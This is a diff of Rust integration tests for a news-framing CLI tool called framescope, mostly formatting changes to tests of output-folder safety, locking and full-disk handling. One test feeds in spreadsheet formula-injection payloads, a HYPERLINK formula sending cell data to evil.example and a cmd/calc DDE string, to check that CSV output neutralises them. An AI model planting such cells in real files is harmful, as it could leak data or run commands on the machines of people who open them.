@@ -23,7 +23,10 @@ fn bin(dir: &Path) -> Command {
 /// (exit code, stderr) of a command run in `dir`.
 fn run(dir: &Path, args: &[&str]) -> (i32, String) {
     let o = bin(dir).args(args).output().unwrap();
-    (o.status.code().unwrap_or(-1), String::from_utf8_lossy(&o.stderr).into_owned())
+    (
+        o.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&o.stderr).into_owned(),
+    )
 }
 
 fn copy_seeds(to: &Path) {
@@ -97,12 +100,19 @@ fn an_output_is_never_written_onto_an_input() {
     let dir = tempfile::tempdir().unwrap();
     let d = dir.path();
     copy_seeds(&d.join("arts"));
-    std::fs::write(d.join("arts/sentences.csv"), "id,title,text\nx,T,\"Kyiv said talks resumed.\"\n").unwrap();
+    std::fs::write(
+        d.join("arts/sentences.csv"),
+        "id,title,text\nx,T,\"Kyiv said talks resumed.\"\n",
+    )
+    .unwrap();
     let before = tree(&d.join("arts"));
     let article = "arts/004_994e15704f090877.txt";
     assert!(d.join(article).is_file());
     for (args, want) in [
-        (vec!["run", "--seeds", "arts", "--out", "arts"], "arts: is an input (arts)"),
+        (
+            vec!["run", "--seeds", "arts", "--out", "arts"],
+            "arts: is an input (arts)",
+        ),
         (
             vec!["run", "--seeds", "arts", "--out", "arts/out"],
             "arts/out: lies inside the input folder arts",
@@ -111,21 +121,33 @@ fn an_output_is_never_written_onto_an_input() {
             vec!["run", "--seeds", "arts/004_994e15704f090877.txt", "--out", "."],
             "cannot use as output folder: it holds the current directory",
         ),
-        (vec!["train", "--model", article, "arts"], "lies inside the input folder arts"),
+        (
+            vec!["train", "--model", article, "arts"],
+            "lies inside the input folder arts",
+        ),
         (vec!["train", "--model", article, article], "is an input"),
     ] {
         let (code, err) = run(d, &args);
         assert_eq!(code, 2, "{args:?}: {err}");
         let last = err.lines().last().unwrap_or("");
-        assert!(last.starts_with("framescope: error: ") && last.contains(want), "{args:?}: {err}");
+        assert!(
+            last.starts_with("framescope: error: ") && last.contains(want),
+            "{args:?}: {err}"
+        );
         assert_eq!(err.lines().count(), 1, "{err}");
         assert_eq!(tree(&d.join("arts")), before, "{args:?} changed an input");
     }
     // A model inside the folder `score` would replace.
-    assert_eq!(run(d, &["run", "--seeds", "arts", "--out", "out", "--bootstrap", "0"]).0, 0);
+    assert_eq!(
+        run(d, &["run", "--seeds", "arts", "--out", "out", "--bootstrap", "0"]).0,
+        0
+    );
     let (code, err) = run(d, &["score", "--model", "out/model.json", "--out", "out", "arts"]);
     assert_eq!(code, 2);
-    assert!(err.contains("out: the input out/model.json lies inside this output folder"), "{err}");
+    assert!(
+        err.contains("out: the input out/model.json lies inside this output folder"),
+        "{err}"
+    );
 }
 
 #[cfg(unix)]
@@ -147,7 +169,10 @@ fn write_targets_that_are_not_regular_files_are_refused_at_once() {
             vec!["train", "--model", "pipe.json", &seeds],
             "pipe.json: cannot write here: it is a named pipe (FIFO), not a regular file",
         ),
-        (vec!["train", "--model", "link.json", &seeds], "link.json: is a symbolic link"),
+        (
+            vec!["train", "--model", "link.json", &seeds],
+            "link.json: is a symbolic link",
+        ),
         (
             vec!["run", "--seeds", &seeds, "--out", "linkdir"],
             "linkdir: cannot use as output folder: it is a symbolic link",
@@ -162,7 +187,10 @@ fn write_targets_that_are_not_regular_files_are_refused_at_once() {
         assert_eq!(code, 2, "{args:?}: {err}");
         assert!(err.contains(want), "{args:?}: {err}");
     }
-    assert!(std::fs::symlink_metadata(d.join("link.json")).unwrap().file_type().is_symlink());
+    assert!(std::fs::symlink_metadata(d.join("link.json"))
+        .unwrap()
+        .file_type()
+        .is_symlink());
     assert_eq!(std::fs::read_to_string(d.join("real.json")).unwrap(), "{}");
 }
 
@@ -178,29 +206,59 @@ fn an_output_folder_holds_one_jobs_outputs_and_the_previous_one_is_kept() {
     .unwrap();
     copy_seeds(&d.join("plain"));
     // A run with outlets, then a seeds-only run into the same folder.
-    assert_eq!(run(d, &["run", "--seeds", "arts", "--out", "out", "--bootstrap", "0"]).0, 0);
+    assert_eq!(
+        run(d, &["run", "--seeds", "arts", "--out", "out", "--bootstrap", "0"]).0,
+        0
+    );
     assert!(d.join("out/outlets.csv").is_file());
     let first = tree(&d.join("out"));
     run_json_matches_folder(&d.join("out"));
     let (code, err) = run(d, &["run", "--seeds", "plain", "--out", "out", "--bootstrap", "0"]);
     assert_eq!(code, 0, "{err}");
-    assert!(!d.join("out/outlets.csv").exists(), "the earlier run's outlets.csv stayed");
+    assert!(
+        !d.join("out/outlets.csv").exists(),
+        "the earlier run's outlets.csv stayed"
+    );
     run_json_matches_folder(&d.join("out"));
     let b = backups(d, "out");
     assert_eq!(b.len(), 1, "{b:?}");
-    assert!(err.contains(&format!("previous contents of out kept as {}", b[0].display())) || err.contains("previous contents of out kept as out.20"), "{err}");
+    assert!(
+        err.contains(&format!("previous contents of out kept as {}", b[0].display()))
+            || err.contains("previous contents of out kept as out.20"),
+        "{err}"
+    );
     assert_eq!(tree(&b[0]), first, "the backup is the first folder, byte for byte");
     // The same run again: identical results, no new backup.
-    assert_eq!(run(d, &["run", "--seeds", "plain", "--out", "out", "--bootstrap", "0"]).0, 0);
+    assert_eq!(
+        run(d, &["run", "--seeds", "plain", "--out", "out", "--bootstrap", "0"]).0,
+        0
+    );
     assert_eq!(backups(d, "out").len(), 1);
 
     // `score` into a folder of `run`'s outputs replaces it whole: no report or chart of the
     // seeds beside the other articles' scores.
     assert_eq!(run(d, &["train", "--model", "m/model.json", "plain"]).0, 0);
-    let (code, err) = run(d, &["score", "--model", "m/model.json", "--out", "out", "--bootstrap", "0", "arts"]);
+    let (code, err) = run(
+        d,
+        &[
+            "score",
+            "--model",
+            "m/model.json",
+            "--out",
+            "out",
+            "--bootstrap",
+            "0",
+            "arts",
+        ],
+    );
     assert_eq!(code, 0, "{err}");
     let names: Vec<String> = tree(&d.join("out")).into_iter().map(|(p, _)| p).collect();
-    assert!(!names.iter().any(|n| n == "report.html" || n.starts_with("charts") || n == "model.json"), "{names:?}");
+    assert!(
+        !names
+            .iter()
+            .any(|n| n == "report.html" || n.starts_with("charts") || n == "model.json"),
+        "{names:?}"
+    );
     run_json_matches_folder(&d.join("out"));
     assert_eq!(backups(d, "out").len(), 2);
     // Nothing else is left beside the folder: no staging folder, no lock.
@@ -212,7 +270,10 @@ fn an_output_folder_holds_one_jobs_outputs_and_the_previous_one_is_kept() {
         .collect();
     assert!(stray.is_empty(), "{stray:?}");
     // score's own default folder: `scored`.
-    assert_eq!(run(d, &["score", "--model", "m/model.json", "--bootstrap", "0", "plain"]).0, 0);
+    assert_eq!(
+        run(d, &["score", "--model", "m/model.json", "--bootstrap", "0", "plain"]).0,
+        0
+    );
     run_json_matches_folder(&d.join("scored"));
 }
 
@@ -221,7 +282,12 @@ fn corpus(n: usize) -> String {
     let mut lines = Vec::new();
     for e in std::fs::read_dir(seeds_dir()).unwrap() {
         let t = std::fs::read_to_string(e.unwrap().path()).unwrap();
-        lines.extend(t.lines().skip(1).filter(|l| l.split_whitespace().count() > 8).map(String::from));
+        lines.extend(
+            t.lines()
+                .skip(1)
+                .filter(|l| l.split_whitespace().count() > 8)
+                .map(String::from),
+        );
     }
     lines.sort();
     (0..n)
@@ -255,10 +321,16 @@ fn a_second_job_on_the_same_output_fails_at_once_naming_the_first() {
     }
     let (code, err) = run(d, &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0"]);
     let still_running = first.try_wait().unwrap().is_none();
-    assert!(still_running, "the first run ended before the second started: test inconclusive");
+    assert!(
+        still_running,
+        "the first run ended before the second started: test inconclusive"
+    );
     assert_eq!(code, 2, "{err}");
     assert!(
-        err.contains(&format!("out: in use by another framescope job (pid {} on host", first.id())),
+        err.contains(&format!(
+            "out: in use by another framescope job (pid {} on host",
+            first.id()
+        )),
         "{err}"
     );
     assert!(err.contains("run --seeds"), "the holder's command is named: {err}");
@@ -306,7 +378,10 @@ fn a_full_disk_leaves_the_previous_folder_intact() {
     std::fs::write(d.join("big.jsonl"), corpus(400)).unwrap();
     let seeds = seeds_dir().display().to_string();
     // Size of a seeds-only output folder.
-    assert_eq!(run(d, &["run", "--seeds", &seeds, "--out", "probe", "--bootstrap", "0"]).0, 0);
+    assert_eq!(
+        run(d, &["run", "--seeds", &seeds, "--out", "probe", "--bootstrap", "0"]).0,
+        0
+    );
     let size: u64 = tree(&d.join("probe"))
         .iter()
         .map(|(p, _)| std::fs::metadata(d.join("probe").join(p)).unwrap().len())
@@ -329,10 +404,17 @@ fn a_full_disk_leaves_the_previous_folder_intact() {
     assert_eq!(code, 0, "the seeds-only output must fit: {err}");
     let before = tree(&disk.join("out"));
     let big = d.join("big.jsonl").display().to_string();
-    let (code, err) = run(&disk, &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0", &big]);
+    let (code, err) = run(
+        &disk,
+        &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0", &big],
+    );
     assert_eq!(code, 2, "{err}");
     assert!(err.contains("No space left on device"), "{err}");
-    assert_eq!(err.lines().filter(|l| l.contains("framescope: error:")).count(), 1, "{err}");
+    assert_eq!(
+        err.lines().filter(|l| l.contains("framescope: error:")).count(),
+        1,
+        "{err}"
+    );
     assert_eq!(tree(&disk.join("out")), before, "the previous folder changed");
     // The failed job's staging folder and lock are gone: the space is free again.
     let left: Vec<String> = std::fs::read_dir(&disk)
@@ -360,9 +442,28 @@ fn csv_cells_a_spreadsheet_would_run_are_neutralised_except_with_raw_csv() {
     };
     std::fs::write(d.join("evil.jsonl"), line("@id1") + &line("-2")).unwrap();
     let seeds = seeds_dir().display().to_string();
-    assert_eq!(run(d, &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0", "evil.jsonl"]).0, 0);
+    assert_eq!(
+        run(
+            d,
+            &[
+                "run",
+                "--seeds",
+                &seeds,
+                "--out",
+                "out",
+                "--bootstrap",
+                "0",
+                "evil.jsonl"
+            ]
+        )
+        .0,
+        0
+    );
     let text = std::fs::read_to_string(d.join("out/scores.csv")).unwrap();
-    assert!(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""), "{text}");
+    assert!(
+        text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
+        "{text}"
+    );
     assert!(text.contains("'+cmd|' /C calc'!A0"), "{text}");
     assert!(text.contains("\n'@id1,"), "{text}");
     // "-2" is a number to a spreadsheet, not a formula: left alone.
@@ -372,8 +473,8 @@ fn csv_cells_a_spreadsheet_would_run_are_neutralised_except_with_raw_csv() {
         let mut r = csv::Reader::from_path(d.join("out").join(table)).unwrap();
         for rec in r.records() {
             for f in rec.unwrap().iter() {
-                let formula = f.starts_with(['=', '+', '@', '\t', '\r'])
-                    || (f.starts_with('-') && f.parse::<f64>().is_err());
+                let formula =
+                    f.starts_with(['=', '+', '@', '\t', '\r']) || (f.starts_with('-') && f.parse::<f64>().is_err());
                 assert!(!formula, "{table}: {f:?}");
             }
         }
@@ -381,18 +482,43 @@ fn csv_cells_a_spreadsheet_would_run_are_neutralised_except_with_raw_csv() {
     // framescope reads its own tables back as they were.
     let scores = framescope::report::read_scores(&d.join("out/scores.csv")).unwrap();
     let a = scores.iter().find(|s| s.id == "@id1").expect("id read back");
-    assert_eq!((a.title.as_deref(), a.outlet.as_deref()), (Some(evil_title), Some(evil_outlet)));
+    assert_eq!(
+        (a.title.as_deref(), a.outlet.as_deref()),
+        (Some(evil_title), Some(evil_outlet))
+    );
     let (code, err) = run(d, &["inspect", "@id1", "--out", "out"]);
     assert_eq!(code, 0, "{err}");
     // --raw-csv writes cells as they are; --stdout JSON is always raw.
     assert_eq!(
-        run(d, &["--raw-csv", "run", "--seeds", &seeds, "--out", "raw", "--bootstrap", "0", "evil.jsonl"]).0,
+        run(
+            d,
+            &[
+                "--raw-csv",
+                "run",
+                "--seeds",
+                &seeds,
+                "--out",
+                "raw",
+                "--bootstrap",
+                "0",
+                "evil.jsonl"
+            ]
+        )
+        .0,
         0
     );
     let raw = std::fs::read_to_string(d.join("raw/scores.csv")).unwrap();
     assert!(raw.contains("\n@id1,\"=HYPERLINK("), "{raw}");
     let o = bin(d)
-        .args(["score", "--model", "out/model.json", "--stdout", "--bootstrap", "0", "evil.jsonl"])
+        .args([
+            "score",
+            "--model",
+            "out/model.json",
+            "--stdout",
+            "--bootstrap",
+            "0",
+            "evil.jsonl",
+        ])
         .output()
         .unwrap();
     let first: serde_json::Value =
